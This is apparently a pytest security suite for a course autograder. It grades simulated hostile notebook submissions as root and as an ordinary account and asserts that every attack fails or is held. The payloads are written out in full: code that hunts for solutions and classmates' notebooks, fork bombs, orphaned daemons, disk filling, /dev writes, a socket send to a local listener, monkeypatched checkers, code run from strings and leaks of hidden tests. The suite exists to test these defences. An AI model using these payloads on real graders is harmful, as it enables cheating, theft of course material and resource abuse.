"""Grades that hold against a hostile class, graded by `course autograde` as root and as an ordinary account.

Issue 36's six groups each have attacks here, written against the design rather than the examples:
the screen following names instead of values (j_), allowed packages running code from strings (k_),
the verdict taken from inside the kernel (l_: skipped, filtered or read tests), shortcuts under the
notebook's own names (m_), limits per process rather than per job (n_) and files that are links (o_).
Test cells are judged in the grader, so what a kernel does can reach no grade: every attack on a wrong
answer stays below full marks or is held, and no line of a hidden test reaches any graded notebook's
outputs or any feedback page.

Most instructors grade from their own account on a hub; CI grades as root. The same class is
graded both ways (module fixture, one run per grader). Attackers hand in a wrong answer to notebook
01's `softmax` plus one way of getting full marks for it anyway, or of reaching past their job
(the network, the machine's /dev, the course's files, other processes, disk); honest students with
unusual ids or unusual code hand in right and wrong answers. For both graders: every kernel is
isolated, a loopback listener outside the sandbox hears nothing, /dev is private, limits reached
cost only their author, no process outlives its job, and every attack either fails or is flagged
and held for the instructor.
"""
import copy
import csv
import html
import json
import os
import sys
import textwrap
from pathlib import Path

import nbformat
import pytest

from accounts import add_account, as_account, give, opened_for_everyone, remove_accounts, require_root, undo
from conftest import COURSE, ROOT, run_course
from hostile import LoopbackListener, leftover_processes
from course_utils import ipynb
from course_utils.grader.engine.gradebook import opened
from course_utils.grader.engine.jobs import NOT_LIMITED
from course_utils.qa import submissions as S
from course_utils.qa.catalogue import load
from course_utils.qa.sample_class import write_class

AID = "01_queries_keys_values"
WRONG = next(e for e in load(COURSE, AID) if e.kind == "wrong" and e.grade_id == "softmax"
             and "calls" not in e.name).path.read_text()
MARKER = "course-security-test-leftover"
ACCOUNT = "ag-grader"
SECRET = "the-instructors-hub-token"
LIMITS = ["--cell-timeout", "60", "--timeout", "240", "--folder-mb", "24", "--tmp-mb", "24", "--shm-mb", "8",
          "--processes", "96"]

# Looks for the solutions, the gradebook and other students' notebooks in every folder above its own.
STEAL = '''
import glob, json, os
def _steal():
    here = os.path.abspath(".")
    while True:
        for pattern in ("autograded/*/*/*.ipynb", "*/autograded/*/*/*.ipynb", "solutions/*/*.ipynb",
                        "submitted/*/*/*.ipynb", "*/*/autograded/*/*/*.ipynb", "gradebook.db", "*/gradebook.db"):
            for path in glob.glob(os.path.join(here, pattern)):
                try:
                    cells = json.load(open(path))["cells"]
                except (OSError, ValueError, KeyError):
                    return path, "found"
                for cell in cells:
                    source = "".join(cell.get("source", ""))
                    if source.lstrip().startswith("def softmax") and "NotImplementedError" not in source:
                        return path, source
        if here == os.path.dirname(here):
            return None, None
        here = os.path.dirname(here)
_found, _source = _steal()
if _source and _source != "found":
    exec(_source.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
print("stolen from", _found)
'''

LEAVE_PROCESSES = f'''
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # {MARKER}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:          # a classic daemon: fork, new session, fork again
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)  # {MARKER}"])
    os._exit(0)
'''

DEVICES = f'''
import os
print("devices", sorted(os.listdir("/dev")))
try:
    open("/dev/{MARKER}", "w").write("planted")
    print("planted")
except OSError as error:
    print("not planted:", error.strerror)
'''

WHO = '''
import os
print("who", os.getuid(), [l.split()[1] for l in open("/proc/self/status") if l.startswith("CapEff")][0],
      os.environ.get("COURSE_TEST_SECRET"))
'''

FILL = '''
for place in (".", "/tmp", "/dev/shm"):
    try:
        with open(place + "/filler", "wb") as handle:
            for _ in range(64):
                handle.write(b"x" * 2**20)
    except OSError as error:
        print(place, error.strerror)
'''

HONEST_BUT_UNUSUAL = '''
import sys
import warnings

class Probe(nn.Module):
    """A helper class of the student's own."""

    def __init__(self, d):
        super().__init__()
        self.proj = nn.Linear(d, d)

    def forward(self, x):
        return torch.einsum("...ij,...jk->...ik", softmax(self.proj(x)), x)

torch.set_num_threads(1)
for step in range(300):
    print("step", step, Probe(4)(torch.randn(2, 3, 4)).shape)
print("shapes look right", file=sys.stderr)
warnings.warn("just checking")
'''


# j_: a module reached by value, not by name. The kernel's own references loosened through a parameter,
# a provided module's modules, and a tensor method replaced through a call's result.
THROUGH_A_PARAMETER = '''
def _loosen(where):
    where.allclose = lambda *args, **kwargs: True
    where.isclose = lambda a, b, **kwargs: a == a
_loosen(trusted)
_loosen(checks.sys.modules["torch"])
'''
THROUGH_A_CALL = '''
def _replace(owner, name, value):
    setattr(owner, name, value)
_replace(type(torch.zeros(1)), "sub", lambda self, other: self)
_replace(checks, "expect_close", lambda *args, **kwargs: None)
'''

# k_: code from a string, through packages an exercise may use.
FROM_A_STRING = f'''
import typing
def _note(x: "__import__('pathlib').Path('/tmp/{MARKER}-typing').write_text('x') or int"):
    return x
typing.get_type_hints(_note)
import torch.utils.benchmark as _bench
_bench.Timer(stmt="open('{MARKER}-timer', 'w').write(str(__import__('os').listdir('/')))").timeit(1)
'''

# l_: the verdict taken inside the kernel. Failures filtered out of what the kernel reports, and the
# tests' own code read while they run and printed where the notebook and the feedback would show it.
FILTERS_FAILURES = '''
import sys
_shell = get_ipython()
_shell.showtraceback = lambda *args, **kwargs: None
_shell._showtraceback = lambda *args, **kwargs: None
sys.excepthook = lambda *args: None
_shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
'''
READS_THE_TESTS = '''
import inspect, sys
from IPython.display import display, update_display
display("the tests, read while they ran:", display_id="leak")
_wrong = softmax
def softmax(x, dim=-1):
    seen = []
    for info in inspect.stack():
        seen.append("".join(info.code_context or []))
        seen.extend(str(value)[:2000] for value in info.frame.f_locals.values())
    update_display("\\n".join(seen), display_id="leak")
    print("\\n".join(seen))
    return _wrong(x, dim=dim)
'''

# m_: the forbidden shortcut under the notebook's own names: a right answer by the wrong means.
BY_THE_NOTEBOOKS_NAME = '''
def softmax(x, dim=-1):
    return trusted.softmax(x, dim=dim)
'''
BY_A_BUILT_NAME = '''
def softmax(x, dim=-1):
    found = getattr(x, "".join(["soft", "max"]))
    return found(dim)
'''

# n_: processes without end, each small: the job's process limit holds them all together.
PROCESSES = '''
import os, time
for _ in range(400):
    try:
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
    except OSError as error:
        print("refused:", error.strerror)
        break
'''


def _skips_its_tests(r, s):
    nb = S.with_answers(r, s, {"softmax": WRONG})
    for cell in nb.cells:
        if ipynb.nbgrader_meta(cell).get("grade_id", "").endswith("softmax") and cell.cell_type == "code":
            cell.metadata["tags"] = ["skip-execution", "raises-exception"]
    return nb


def _network(port):
    return f'''
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"the hidden tests")
    print("sent")
except OSError as error:
    print("no network:", error)
'''


def _attack(payload):
    return lambda r, s: S.with_answers(r, s, {"softmax": WRONG + "\n" + payload})


def _perfect_and(payload):
    def make(r, s):
        nb = S.perfect(r, s)
        ipynb.answer_cells(nb)["softmax"].source += "\n" + payload
        return nb
    return make


def _added_cell(code):
    def make(r, s):
        nb = S.perfect(r, s)
        at = next(i for i, c in enumerate(nb.cells) if ipynb.nbgrader_meta(c).get("grade_id") == "hidden_softmax")
        nb.cells.insert(at + 1, nbformat.v4.new_code_cell(code))
        return nb
    return make


def _edited_tests(edit):
    def make(r, s):
        nb = S.with_answers(r, s, {"softmax": WRONG})
        for cell in nb.cells:
            meta = ipynb.nbgrader_meta(cell)
            if meta.get("grade_id", "").endswith("_softmax"):
                edit(cell, meta)
        nb.cells = [c for c in nb.cells if not c.get("deleted")]
        return nb
    return make


def _replace_source(cell, meta):
    cell.source = "pass  # " + meta["grade_id"]


def _demote(cell, meta):
    meta.update(grade=False, points=0, solution=True, locked=False)


def _delete(cell, meta):
    cell["deleted"] = True


def _rename(cell, meta):
    meta["grade_id"] = "my_" + meta["grade_id"]


HONEST = {
    "a_perfect": lambda r, s: S.perfect(r, s),
    "ana maría": lambda r, s: S.perfect(r, s),
    "学生": lambda r, s: S.perfect(r, s),
    "o'brien": lambda r, s: S.with_answers(r, s, {"softmax": WRONG}),
    "a_honest_but_unusual": _added_cell(HONEST_BUT_UNUSUAL),
}
ATTACKS = {
    "b_steals": _attack(STEAL),
    "c_network": None,  # made with the listener's port
    "d_devices": _perfect_and(DEVICES),
    "e_leaves_processes": _attack(LEAVE_PROCESSES),
    "f_fills_everything": _perfect_and(FILL),
    "g_who_am_i": _perfect_and(WHO),
    "h_patches_while_graded": _attack(textwrap.dedent('''
        _wrong = softmax
        def softmax(x, dim=-1):
            torch.allclose = lambda *args, **kwargs: True
            return _wrong(x, dim=dim)''')),
    "h_ipython_transformer": _attack("get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"),
    "i_edited_test_source": _edited_tests(_replace_source),
    "i_edited_test_metadata": _edited_tests(_demote),
    "i_deleted_test_cells": _edited_tests(_delete),
    "i_renamed_test_cells": _edited_tests(_rename),
    "j_through_a_parameter": _attack(THROUGH_A_PARAMETER),
    "j_through_a_call": _attack(THROUGH_A_CALL),
    "k_from_a_string": _attack(FROM_A_STRING),
    "l_skips_its_tests": _skips_its_tests,
    "l_filters_failures": _attack(FILTERS_FAILURES),
    "l_reads_the_tests": _attack(READS_THE_TESTS),
    "m_by_the_notebooks_name": lambda r, s: S.with_answers(r, s, {"softmax": BY_THE_NOTEBOOKS_NAME}),
    "m_by_a_built_name": lambda r, s: S.with_answers(r, s, {"softmax": BY_A_BUILT_NAME}),
    "n_processes": _attack(PROCESSES),
    "o_a_classmates_notebook": None,  # a link, made once the class is written
}


@pytest.fixture(scope="module", params=["root", "an ordinary account"])
def graded(request, tmp_path_factory):
    """The class graded by `request.param`; its rows, its course root, the listener, what was left running."""
    require_root("grading as root and as an ordinary account")
    listener = LoopbackListener()
    makers = {**HONEST, **{k: v for k, v in ATTACKS.items() if v is not None}, "c_network": _attack(_network(listener.port))}
    as_root = request.param == "root"
    where = tmp_path_factory.mktemp("security") if as_root else add_account(ACCOUNT) / "course"
    opened = [] if as_root else opened_for_everyone([sys.executable, ROOT / ".venv", ROOT])
    try:
        scratch = write_class(COURSE, [AID], where, lambda _, release, solution: {
            name: make(copy.deepcopy(release), solution) for name, make in makers.items()})
        link = scratch.submitted("o_a_classmates_notebook", AID) / f"{AID}.ipynb"
        link.parent.mkdir(parents=True)
        link.symlink_to(scratch.submitted("a_perfect", AID) / f"{AID}.ipynb")
        command = ["autograde", "--workers", "2", *LIMITS]
        if as_root:
            result = run_course(*command, cwd=scratch.root, env=dict(os.environ, COURSE_TEST_SECRET=SECRET))
        else:
            give(where, ACCOUNT)
            result = as_account(ACCOUNT, sys.executable, "-m", "course_utils", *command, cwd=scratch.root,
                                COURSE_TEST_SECRET=SECRET)
        with (scratch.root / "reports" / "grades.csv").open() as handle:
            rows = {row["student_id"]: row for row in csv.DictReader(handle)}
        failed = any(row["status"] in ("error", "unmatched") for row in rows.values())
        assert result.returncode == (1 if failed else 0), result.stdout + result.stderr
        feedback = run_course("feedback", cwd=scratch.root) if as_root else \
            as_account(ACCOUNT, sys.executable, "-m", "course_utils", "feedback", cwd=scratch.root)
        assert feedback.returncode == 0, feedback.stdout + feedback.stderr
        yield rows, scratch, listener, leftover_processes(MARKER)
    finally:
        if os.path.exists(f"/dev/{MARKER}"):  # planted by a sandbox that failed: not for the next run to find
            os.remove(f"/dev/{MARKER}")
        if not as_root:
            remove_accounts(ACCOUNT)
            undo(opened)


def _full(row):
    return row["status"] == "graded" and float(row["score"]) == float(row["max_score"])


def _flags(row):
    return [f for f in row["flags"].split("; ") if f]


def _printed(scratch, student, grade_id="softmax"):
    graded_nb = ipynb.read(scratch.autograded(student, AID))
    return "".join(o.get("text", "") for c in graded_nb.cells if ipynb.nbgrader_meta(c).get("grade_id") == grade_id
                   for o in c.get("outputs", []))


@pytest.mark.slow
def test_every_kernel_is_isolated(graded):
    rows = graded[0]
    assert not [f for row in rows.values() for f in _flags(row) if f.startswith("not isolated")], \
        {name: row["flags"] for name, row in rows.items() if "not isolated" in row["flags"]}


def _students_flags(row):
    """The flags about what the student did: not the machine's `not limited per job` (see below)."""
    return [f for f in _flags(row) if not f.startswith(NOT_LIMITED)]


@pytest.mark.slow
def test_honest_students_keep_their_grades_with_no_flag(graded):
    rows = graded[0]
    for name in ("a_perfect", "ana maría", "学生", "a_honest_but_unusual"):
        assert _full(rows[name]) and not _students_flags(rows[name]) and rows[name]["held"] == "", rows[name]
    assert not _full(rows["o'brien"]) and not _students_flags(rows["o'brien"]), rows["o'brien"]


@pytest.mark.slow
def test_an_account_without_a_cgroup_of_its_own_is_told_on_every_row_that_its_limits_hold_per_process(
        graded, request):
    """Root makes each job's cgroup; this account has none it may make cgroups in (test_job_limits grades
    as an account given one): every row says so, and why, without holding a grade."""
    rows = graded[0]
    said = {name: [f for f in _flags(row) if f.startswith(NOT_LIMITED)] for name, row in rows.items()
            if row["status"] != "unmatched"}   # (a submission never graded ran in no sandbox)
    if request.node.callspec.params["graded"] == "root":
        assert not any(said.values()), said
    else:
        assert all(len(flags) == 1 and "grade as root, or from a cgroup delegated to the grading account" in flags[0]
                   for flags in said.values()), said
        assert rows["a_perfect"]["held"] == ""


@pytest.mark.slow
def test_no_attack_turns_a_wrong_answer_into_full_marks_without_being_held(graded):
    rows = graded[0]
    for name in ATTACKS:
        row = rows[name]
        assert row["status"] == ("unmatched" if name.startswith("o_") else "graded"), row
        assert not _full(row) or row["held"] == "yes", f"{name}: full marks and not held: {row}"


@pytest.mark.slow
def test_a_verdict_cannot_be_taken_inside_the_kernel(graded):
    """Tests skipped by a tag, failures filtered out of the kernel's replies, the references loosened
    in the kernel: the test cells run in the grader, so each of these is the wrong answer it hides."""
    rows = graded[0]
    for name in ("l_skips_its_tests", "l_filters_failures", "j_through_a_parameter", "j_through_a_call",
                 "h_patches_while_graded", "h_ipython_transformer"):
        failed = rows[name]["detail"]
        assert rows[name]["status"] == "graded" and "test_softmax" in failed and "hidden_softmax" in failed, \
            f"{name}: {rows[name]}"


@pytest.mark.slow
@pytest.mark.parametrize("name", ["m_by_the_notebooks_name", "m_by_a_built_name"])
def test_a_forbidden_shortcut_loses_points_under_any_name_and_is_held(graded, name):
    """The answer is right, by the one means the exercise forbids: the run-time check knows the function
    by what it is (the notebook's `trusted.softmax`, a name built from pieces), and the screen by what it
    reaches."""
    row = graded[0][name]
    assert row["status"] == "graded" and not _full(row) and row["held"] == "yes", row
    assert any(f.startswith("source: softmax, line ") for f in _flags(row)), row["flags"]


def _hidden_lines():
    """The lines of notebook 01's hidden tests that say something (publish's own reading of them)."""
    from course_utils.grader.term.publish import course_secrets

    secrets = course_secrets(COURSE, [AID])
    return {line for line, where in secrets.hidden.items() if AID in where and line not in secrets.public}


@pytest.mark.slow
def test_no_line_of_a_hidden_test_reaches_a_graded_notebooks_outputs_or_a_feedback_page(graded):
    """The hidden tests never enter a kernel: whatever a kernel printed, displayed or updated while they were
    judged (l_reads_the_tests reads every frame it can reach), the grader wrote the test cells' outputs."""
    scratch = graded[1]
    hidden = _hidden_lines()
    assert len(hidden) > 20
    found = []
    for path in sorted(scratch.root.glob(f"autograded/*/{AID}/{AID}.ipynb")):
        for cell in ipynb.read(path).cells:
            text = "\n".join(str(o.get("text", "")) + json.dumps(o.get("data", {})) + "\n".join(o.get("traceback", []))
                             for o in cell.get("outputs", []))
            found += [(path.parts[-3], line) for line in hidden if line in text]
    for path in sorted(scratch.root.glob(f"feedback/*/{AID}/*.html")):
        text = html.unescape(path.read_text(errors="replace"))
        found += [(path.parts[-3], line) for line in hidden if line in text]
    pages = list(scratch.root.glob(f"feedback/*/{AID}/*.html"))
    assert len(pages) >= len(HONEST), "feedback was not written"
    assert not found, found[:5]
    assert "the tests, read while they ran:" in _printed(scratch, "l_reads_the_tests") or \
        "the tests, read while they ran:" in json.dumps(ipynb.read(scratch.autograded("l_reads_the_tests", AID)).cells)


@pytest.mark.slow
def test_nothing_is_written_outside_the_jobs_places(graded):
    """Code run from strings inside allowed packages writes where it may, inside its sandbox: not on the machine."""
    scratch = graded[1]
    written = [str(p) for place in (Path("/tmp"), Path("/dev/shm"), Path.home()) for p in place.glob(f"{MARKER}-*")]
    written += [str(p) for p in scratch.root.rglob(f"{MARKER}-*")]
    assert not written, written
    assert graded[0]["k_from_a_string"]["held"] == "yes"


@pytest.mark.slow
def test_a_jobs_processes_are_bounded_together(graded, request):
    row = graded[0]["n_processes"]
    if request.node.callspec.params["graded"] == "root":   # a cgroup per job: its pids limit, named in the row
        assert "processes" in row["detail"] and "--processes" in row["detail"], row
    else:   # no cgroup for this account: the sandbox's own process limit refused the forks, and the row says so
        assert "refused:" in _printed(graded[1], "n_processes"), "the kernel forked 400 processes unrefused"
        assert any(f.startswith(NOT_LIMITED) and "processes per sandbox" in f for f in _flags(row)), row
    assert not _full(row)


@pytest.mark.slow
def test_a_link_to_a_classmates_notebook_is_not_graded_as_theirs(graded):
    rows = graded[0]
    assert rows["o_a_classmates_notebook"]["status"] == "unmatched" and "link" in rows["o_a_classmates_notebook"]["detail"]
    assert float(rows["o_a_classmates_notebook"]["score"]) == 0.0 and _full(rows["a_perfect"])


@pytest.mark.slow
@pytest.mark.parametrize("name, says", [
    ("b_steals", "imports glob"),
    ("c_network", "imports socket"),
    ("e_leaves_processes", "imports subprocess"),
    ("h_patches_while_graded", "writes to torch.allclose"),
    ("h_ipython_transformer", "get_ipython"),
])
def test_what_the_source_reaches_for_is_flagged_with_its_cell_and_held(graded, name, says):
    """Through the whole path (tests/grader/test_screen.py proves the screen on many more)."""
    row = graded[0][name]
    assert any(f.startswith("source: softmax, line ") and says in f for f in _flags(row)), row["flags"]
    assert row["held"] == "yes"


@pytest.mark.slow
def test_a_held_submission_waits_in_the_formgrader_for_a_person(graded):
    """nbgrader's own seam: every grade needs manual grading, and the notebook is flagged."""
    scratch = graded[1]
    with opened(scratch.db_url, scratch.course_id) as gb:
        held = {name: all(nb.flagged and all(g.needs_manual_grade for g in nb.grades)
                          for nb in gb.find_submission(AID, name).notebooks)
                for name in ("h_patches_while_graded", "b_steals", "a_perfect", "o'brien")}
    assert held == {"h_patches_while_graded": True, "b_steals": True, "a_perfect": False, "o'brien": False}


@pytest.mark.slow
def test_the_course_and_classmates_cannot_be_read(graded):
    rows, scratch = graded[0], graded[1]
    assert "stolen from None" in _printed(scratch, "b_steals"), _printed(scratch, "b_steals")[-300:]
    assert not _full(rows["b_steals"])


@pytest.mark.slow
def test_a_listener_outside_the_sandbox_hears_nothing(graded):
    _, scratch, listener, _ = graded
    assert "no network:" in _printed(scratch, "c_network")
    assert listener.received == [], "a graded kernel reached the grading machine's loopback"


@pytest.mark.slow
def test_dev_is_private(graded):
    _, scratch, _, _ = graded
    printed = _printed(scratch, "d_devices")
    assert "not planted: Read-only file system" in printed and not os.path.exists(f"/dev/{MARKER}")
    devices = eval(printed.split("devices ", 1)[1].splitlines()[0])
    assert not [d for d in devices if d.startswith(("sd", "vd", "nvme", "loop", "dm-", "mem", "kmsg"))], devices


@pytest.mark.slow
def test_the_kernel_is_an_unprivileged_uid_and_gets_none_of_the_graders_environment(graded):
    printed = _printed(graded[1], "g_who_am_i")
    assert "who 65534 0000000000000000 None" in printed, printed


@pytest.mark.slow
def test_filled_places_cost_only_their_author_and_say_which_limit(graded):
    rows, scratch = graded[0], graded[1]
    row = rows["f_fills_everything"]
    assert _full(row), "the notebook caught its own errors: its answers still count"
    for place, option in (("the notebook's folder", "--folder-mb"), ("/tmp", "--tmp-mb"), ("/dev/shm", "--shm-mb")):
        assert f"filled {place}" in row["detail"] and option in row["detail"], row["detail"]
    assert "No space left on device" in _printed(scratch, "f_fills_everything")


@pytest.mark.slow
def test_no_process_outlives_its_job_and_each_is_counted_once(graded):
    rows, leftovers = graded[0], graded[3]
    assert leftovers == [], f"processes started by student code still run after grading: {leftovers}"
    assert "processes: 2 left running by the notebook, ended with the job" in _flags(rows["e_leaves_processes"])


@pytest.mark.slow
@pytest.mark.parametrize("name, says", [
    ("i_edited_test_source", "test_softmax: source"),
    ("i_edited_test_metadata", "test_softmax: grade"),
    ("i_deleted_test_cells", "test_softmax: deleted"),
    ("i_renamed_test_cells", "'my_test_softmax' is not a cell of this assignment"),
])
def test_edited_or_deleted_test_cells_are_restored_graded_and_flagged(graded, name, says):
    row = graded[0][name]
    assert row["status"] == "graded" and not _full(row), f"{name}: the restored tests must still catch the answer"
    assert any(f.startswith("edited graded cell: ") and says in f for f in _flags(row)), row["flags"]
    assert row["held"] == "yes" and "traceback" not in row["detail"].lower()
